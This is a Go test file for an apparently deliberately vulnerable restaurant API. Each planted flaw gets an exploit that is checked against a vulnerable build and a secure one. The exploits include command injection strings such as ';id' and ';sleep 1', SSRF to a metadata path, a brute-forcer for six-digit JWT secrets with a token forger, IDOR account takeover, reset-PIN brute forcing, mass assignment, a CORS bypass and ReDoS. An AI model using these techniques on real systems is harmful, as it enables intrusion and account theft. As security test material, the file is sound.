package fastapilike

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// exploits holds one exploit per planted flaw. Each runs against a fresh
// server of either build and asserts the effect (vulnerable) or its
// absence (secure).
var exploits = []struct {
	id  string
	run func(t *testing.T, a *testAPI, secure bool)
}{
	{"version-header", func(t *testing.T, a *testAPI, secure bool) {
		res := a.expect(a.req("GET", "/healthcheck", "", nil), 200)
		got := res.header.Get("X-Powered-By")
		if secure && got != "" {
			t.Errorf("secure build discloses X-Powered-By: %s", got)
		}
		if !secure && got != "Python 3.10, FastAPI ^0.103.0" {
			t.Errorf("X-Powered-By %q", got)
		}
		if s := res.header.Get("Server"); s != "uvicorn" {
			t.Errorf("server %q", s)
		}
	}},

	{"menu-delete-no-role-check", func(t *testing.T, a *testAPI, secure bool) {
		a.expect(a.req("DELETE", "/menu/999999", "", nil), 401)
		res := a.req("DELETE", "/menu/999999", a.login("hhm"), nil)
		if secure {
			a.expect(res, 403)
			return
		}
		a.expect(res, 404)
		if d := res.detail(t); d != "MenuItem not found" {
			t.Errorf("detail %v", d)
		}
	}},

	{"menu-delete-by-customer", func(t *testing.T, a *testAPI, secure bool) {
		res := a.req("DELETE", "/menu/3", a.login("hhm"), nil)
		present := strings.Contains(string(a.req("GET", "/menu", "", nil).body), `"id":3,`)
		if secure {
			a.expect(res, 403)
			if !present {
				t.Error("item 3 was deleted")
			}
			return
		}
		a.expect(res, 204)
		if present {
			t.Error("item 3 is still on the menu")
		}
	}},

	{"profile-put-idor", func(t *testing.T, a *testAPI, secure bool) {
		attacker := a.login("hhm")
		const attackerPhone = "(505) 111-2233"
		res := a.req("PUT", "/profile", attacker, map[string]any{"username": "kim", "first_name": "Pwned", "phone_number": attackerPhone})
		kim := a.login("kim")
		profile := a.expect(a.req("GET", "/profile", kim, nil), 200).json(t)
		if secure {
			a.expect(res, 403)
			if profile["phone_number"] == attackerPhone || profile["first_name"] == "Pwned" {
				t.Errorf("kim's profile changed: %v", profile)
			}
			return
		}
		a.expect(res, 200)
		if profile["phone_number"] != attackerPhone || profile["first_name"] != "Pwned" {
			t.Fatalf("kim's profile not changed: %v", profile)
		}
		// The reset PIN now goes to the attacker's phone: account takeover.
		a.expect(a.req("POST", "/reset-password", "", map[string]any{"username": "kim"}), 200)
		a.srv.mu.Lock()
		sms := a.srv.sms[len(a.srv.sms)-1]
		a.srv.mu.Unlock()
		if sms.phone != attackerPhone {
			t.Fatalf("code sent to %q", sms.phone)
		}
		a.expect(a.req("POST", "/reset-password/new-password", "", map[string]any{"username": "kim", "reset_password_code": sms.code, "new_password": "owned-by-hhm"}), 200)
		a.loginWith("kim", "owned-by-hhm")
	}},

	{"update-role-by-anyone", func(t *testing.T, a *testAPI, secure bool) {
		tok := a.login("hhm")
		res := a.req("PUT", "/users/update_role", tok, map[string]any{"username": "hhm", "role": "Employee"})
		lookup := a.req("GET", "/users/1", tok, nil)
		if secure {
			a.expect(res, 403)
			a.expect(lookup, 403)
			if r := a.role("hhm"); r != roleCustomer {
				t.Errorf("role %s", r)
			}
			return
		}
		a.expect(res, 200)
		if got := res.json(t); got["role"] != roleEmployee || got["username"] != "hhm" {
			t.Errorf("answer %v", got)
		}
		a.expect(lookup, 200) // staff-only lookup now open to the customer
		if r := a.role("hhm"); r != roleEmployee {
			t.Errorf("role %s", r)
		}
	}},

	{"profile-patch-role", func(t *testing.T, a *testAPI, secure bool) {
		tok := a.login("hhm")
		res := a.expect(a.req("PATCH", "/profile", tok, map[string]any{"first_name": "Howie", "role": "Chef"}), 200).json(t)
		disk := a.req("GET", "/admin/stats/disk", tok, nil)
		if res["first_name"] != "Howie" {
			t.Errorf("declared field not patched: %v", res)
		}
		if secure {
			if res["role"] != roleCustomer {
				t.Errorf("role %v", res["role"])
			}
			a.expect(disk, 403)
			return
		}
		if res["role"] != roleChef {
			t.Errorf("role %v", res["role"])
		}
		a.expect(disk, 200)
	}},

	{"menu-image-ssrf", func(t *testing.T, a *testAPI, secure bool) {
		var mu sync.Mutex
		var hits []*http.Request
		canary := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			hits = append(hits, r)
			mu.Unlock()
			w.Write([]byte("internal-secret-page"))
		}))
		defer canary.Close()
		tok := a.login("mike")
		res := a.req("PUT", "/menu", tok, map[string]any{"name": "Canary", "price": 1, "category": "x", "image_url": canary.URL + "/latest/meta-data"})
		mu.Lock()
		n := len(hits)
		mu.Unlock()
		if secure {
			a.expect(res, 400)
			if n != 0 {
				t.Errorf("secure build fetched the canary %d times", n)
			}
			return
		}
		a.expect(res, 201)
		if n != 1 || hits[0].URL.Path != "/latest/meta-data" || !strings.HasPrefix(hits[0].UserAgent(), "python-requests/") {
			t.Fatalf("canary hits %d %v", n, hits)
		}
		img, _ := base64.StdEncoding.DecodeString(res.json(t)["image_base64"].(string))
		if string(img) != "internal-secret-page" {
			t.Errorf("image_base64 holds %q", img)
		}
		// RESTaurant's level 4 chain: read the loopback-only chef reset.
		res = a.expect(a.req("PUT", "/menu", tok, map[string]any{"name": "Chain", "price": 1, "category": "x", "image_url": a.ts.URL + "/admin/reset-chef-password"}), 201)
		raw, _ := base64.StdEncoding.DecodeString(res.json(t)["image_base64"].(string))
		var reset struct{ Password string }
		if err := json.Unmarshal(raw, &reset); err != nil || len(reset.Password) != 32 {
			t.Fatalf("reset answer %q", raw)
		}
		a.loginWith("chef", reset.Password)
	}},

	{"disk-stats-command-injection", func(t *testing.T, a *testAPI, secure bool) {
		tok := a.login("chef")
		plain := a.expect(a.req("GET", "/admin/stats/disk?parameters=/app", tok, nil), 200).json(t)["output"].(string)
		if !strings.HasPrefix(plain, "Filesystem") {
			t.Errorf("df output %q", plain)
		}
		res := a.req("GET", "/admin/stats/disk?parameters="+url.QueryEscape(";id"), tok, nil)
		if secure {
			a.expect(res, 400)
			return
		}
		out := a.expect(res, 200).json(t)["output"].(string)
		if !strings.Contains(out, "Filesystem") || !strings.HasSuffix(out, "uid=1000(app) gid=1000(app) groups=1000(app)") {
			t.Errorf("output %q", out)
		}
		// RESTaurant's own proof of concept
		out = a.expect(a.req("GET", "/admin/stats/disk?parameters=%26%26echo%20vulnerable%21", tok, nil), 200).json(t)["output"].(string)
		if !strings.HasSuffix(out, "vulnerable!") {
			t.Errorf("output %q", out)
		}
	}},

	{"jwt-six-digit-secret", func(t *testing.T, a *testAPI, secure bool) {
		tok := a.login("hhm")
		secret, found := crackSixDigits(tok)
		if secure {
			if found {
				t.Fatalf("secure key is %s", secret)
			}
			secret = vulnerableJWTSecret
		} else if !found || secret != "123321" {
			t.Fatalf("secret %q found %v", secret, found)
		}
		forged := forgeToken(secret, "chef", time.Now().Add(time.Hour).Unix())
		res := a.req("GET", "/profile", forged, nil)
		if secure {
			a.expect(res, 401)
			return
		}
		if got := a.expect(res, 200).json(t); got["role"] != roleChef {
			t.Errorf("forged token gives %v", got)
		}
	}},

	{"cors-origin-regex-unanchored", func(t *testing.T, a *testAPI, secure bool) {
		const evil = "https://x.restaurant.example.attacker.example"
		res := a.expect(a.req("GET", "/profile", a.login("hhm"), nil, "Origin", evil), 200)
		pre := a.req("OPTIONS", "/profile", "", nil, "Origin", evil, "Access-Control-Request-Method", "GET", "Access-Control-Request-Headers", "authorization")
		acao := res.header.Get("Access-Control-Allow-Origin")
		if res.header.Get("Access-Control-Allow-Credentials") != "true" {
			t.Error("no Access-Control-Allow-Credentials")
		}
		if secure {
			if acao != "" || pre.status != 400 || string(pre.body) != "Disallowed CORS origin" {
				t.Errorf("secure build lets %s in: %q, preflight %d %s", evil, acao, pre.status, pre.body)
			}
			return
		}
		if acao != evil || !strings.Contains(res.header.Get("Vary"), "Origin") {
			t.Errorf("ACAO %q", acao)
		}
		if pre.status != 200 || pre.header.Get("Access-Control-Allow-Origin") != evil || pre.header.Get("Access-Control-Allow-Headers") != "authorization" {
			t.Errorf("preflight %d %v", pre.status, pre.header)
		}
	}},

	{"order-read-bola", func(t *testing.T, a *testAPI, secure bool) {
		res := a.req("GET", "/orders/1", a.login("kim"), nil) // order 1 is hhm's
		if secure {
			a.expect(res, 403)
			return
		}
		o := a.expect(res, 200).json(t)
		if o["user_id"] != float64(a.userID("hhm")) || o["delivery_address"] != "12 Riverside Dr, Albuquerque" {
			t.Errorf("order %v", o)
		}
	}},

	{"order-cancel-no-owner-check", func(t *testing.T, a *testAPI, secure bool) {
		kim := a.login("kim")
		// the sibling write refuses kim in both builds
		a.expect(a.req("PUT", "/orders/2", kim, map[string]any{"delivery_address": "elsewhere"}), 403)
		res := a.req("DELETE", "/orders/2", kim, nil)
		after := a.req("GET", "/orders/2", a.login("hhm"), nil)
		if secure {
			a.expect(res, 403)
			a.expect(after, 200)
			return
		}
		a.expect(res, 204)
		a.expect(after, 404)
	}},

	{"reset-code-no-attempt-limit", func(t *testing.T, a *testAPI, secure bool) {
		a.expect(a.req("POST", "/reset-password", "", map[string]any{"username": "hhm"}), 200)
		guess := func(code string) answer {
			return a.req("POST", "/reset-password/new-password", "", map[string]any{"username": "hhm", "reset_password_code": code, "new_password": "guessed-it"})
		}
		if secure {
			a.srv.mu.Lock()
			real := *a.srv.userByName("hhm").resetCode
			a.srv.mu.Unlock()
			wrong := fmt.Sprintf("%04d", (mustAtoi(real)+1)%10000)
			for i := 0; i < resetMaxTries; i++ {
				a.expect(guess(wrong), 400)
			}
			a.expect(guess(wrong), 429)
			a.expect(guess(real), 429)
			a.login("hhm") // the password did not change
			return
		}
		for i := 0; i < 10000; i++ {
			res := guess(fmt.Sprintf("%04d", i))
			if res.status == 200 {
				a.loginWith("hhm", "guessed-it")
				t.Logf("code %04d found after %d guesses", i, i+1)
				return
			}
			if res.status != 400 {
				t.Fatalf("guess %04d: %d %s", i, res.status, res.body)
			}
		}
		t.Fatal("no code worked")
	}},

	{"reset-request-user-enumeration", func(t *testing.T, a *testAPI, secure bool) {
		unknown := a.req("POST", "/reset-password", "", map[string]any{"username": "nobody-here"})
		staff := a.req("POST", "/reset-password", "", map[string]any{"username": "mike"})
		customer := a.req("POST", "/reset-password", "", map[string]any{"username": "kim"})
		same := func(x, y answer) bool { return x.status == y.status && string(x.body) == string(y.body) }
		if secure {
			if !same(unknown, customer) || !same(staff, customer) {
				t.Errorf("answers differ: %d %s / %d %s / %d %s", unknown.status, unknown.body, staff.status, staff.body, customer.status, customer.body)
			}
			return
		}
		if unknown.status != 400 || customer.status != 200 || same(staff, unknown) {
			t.Errorf("answers: %d %s / %d %s / %d %s", unknown.status, unknown.body, staff.status, staff.body, customer.status, customer.body)
		}
	}},

	{"order-create-mass-assignment", func(t *testing.T, a *testAPI, secure bool) {
		tok := a.login("hhm")
		res := a.expect(a.req("POST", "/orders", tok, map[string]any{
			"delivery_address": "12 Riverside Dr", "phone_number": "(505) 564-7345",
			"items":  []any{map[string]any{"menu_item_id": 7, "quantity": 3}},
			"status": "Delivered", "final_price": 0.01,
		}), 201).json(t)
		stored := a.expect(a.req("GET", "/orders/"+strconv.Itoa(int(res["id"].(float64))), tok, nil), 200).json(t)
		if secure {
			if stored["status"] != "Pending" || stored["final_price"] != 21.0 {
				t.Errorf("order %v", stored)
			}
			return
		}
		if stored["status"] != "Delivered" || stored["final_price"] != 0.01 {
			t.Errorf("order %v", stored)
		}
	}},

	{"user-lookup-password-hash", func(t *testing.T, a *testAPI, secure bool) {
		a.expect(a.req("POST", "/reset-password", "", map[string]any{"username": "hhm"}), 200)
		res := a.expect(a.req("GET", "/users/"+strconv.FormatInt(a.userID("hhm"), 10), a.login("mike"), nil), 200)
		u := res.json(t)
		a.srv.mu.Lock()
		code := *a.srv.userByName("hhm").resetCode
		a.srv.mu.Unlock()
		if secure {
			if strings.Contains(string(res.body), "$2b$") || strings.Contains(string(res.body), code) {
				t.Errorf("secret in %s", res.body)
			}
			return
		}
		if h, _ := u["password_hash"].(string); !strings.HasPrefix(h, "$2b$12$") || len(h) != 60 {
			t.Errorf("password_hash %v", u["password_hash"])
		}
		if u["reset_password_code"] != code {
			t.Errorf("reset code %v, want %s", u["reset_password_code"], code)
		}
	}},

	{"phone-pattern-redos", func(t *testing.T, a *testAPI, secure bool) {
		body := map[string]any{"username": "redos", "password": "password123", "phone_number": strings.Repeat("1", 40) + "x"}
		began := time.Now()
		res := a.expect(a.req("POST", "/register", "", body), 422)
		took := time.Since(began)
		if e := res.json(t)["detail"].([]any)[0].(map[string]any); e["type"] != "string_pattern_mismatch" {
			t.Errorf("error %v", e)
		}
		if secure && took > 300*time.Millisecond {
			t.Errorf("secure build took %v", took)
		}
		if !secure && (took < time.Second || took > 5*time.Second) {
			t.Errorf("vulnerable build took %v, want 1s..5s", took)
		}
		t.Logf("took %v", took)
	}},

	{"token-no-rate-limit", func(t *testing.T, a *testAPI, secure bool) {
		statuses := map[int]int{}
		for i := 0; i < 20; i++ {
			statuses[a.tryLogin("hhm", "wrong-"+strconv.Itoa(i)).status]++
		}
		final := a.tryLogin("hhm", seedPassword("hhm"))
		if secure {
			if statuses[429] == 0 || final.status != 429 {
				t.Errorf("statuses %v, then %d", statuses, final.status)
			}
			return
		}
		if statuses[401] != 20 || final.status != 200 {
			t.Errorf("statuses %v, then %d", statuses, final.status)
		}
	}},
}

func TestPlantedFlaws(t *testing.T) {
	covered := map[string]bool{}
	for _, e := range exploits {
		covered[e.id] = true
		t.Run(e.id, func(t *testing.T) {
			for _, secure := range []bool{false, true} {
				name := "vulnerable"
				if secure {
					name = "secure"
				}
				t.Run(name, func(t *testing.T) { e.run(t, start(t, secure), secure) })
			}
		})
	}
	for _, f := range New(Options{}).Planted() {
		if !covered[f.ID] {
			t.Errorf("flaw %s has no exploit test", f.ID)
		}
	}
}

func mustAtoi(s string) int {
	n, err := strconv.Atoi(s)
	if err != nil {
		panic(err)
	}
	return n
}

// crackSixDigits brute-forces an HS256 token's key over 000000-999999.
func crackSixDigits(tok string) (string, bool) {
	i := strings.LastIndex(tok, ".")
	in := []byte(tok[:i])
	sig, err := base64.RawURLEncoding.DecodeString(tok[i+1:])
	if err != nil {
		return "", false
	}
	key := make([]byte, 6)
	for n := 0; n < 1000000; n++ {
		v := n
		for j := 5; j >= 0; j-- {
			key[j] = byte('0' + v%10)
			v /= 10
		}
		m := hmac.New(sha256.New, key)
		m.Write(in)
		if hmac.Equal(m.Sum(nil), sig) {
			return string(key), true
		}
	}
	return "", false
}

func forgeToken(secret, sub string, exp int64) string {
	head := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"HS256","typ":"JWT"}`))
	claims := base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf(`{"sub":%q,"exp":%d}`, sub, exp)))
	m := hmac.New(sha256.New, []byte(secret))
	m.Write([]byte(head + "." + claims))
	return head + "." + claims + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

// TestCommandInjectionTiming: the injected shell's sleep really waits, and
// a failing command is the app's unhandled exception.
func TestCommandInjectionTiming(t *testing.T) {
	a := start(t, false)
	tok := a.login("chef")
	began := time.Now()
	a.expect(a.req("GET", "/admin/stats/disk?parameters=%3Bsleep%201", tok, nil), 200)
	if d := time.Since(began); d < time.Second || d > 2*time.Second {
		t.Errorf("sleep 1 took %v", d)
	}
	// a failing command is the app's unhandled exception
	a.expect(a.req("GET", "/admin/stats/disk?parameters=%3Bfalse", tok, nil), 500)
}
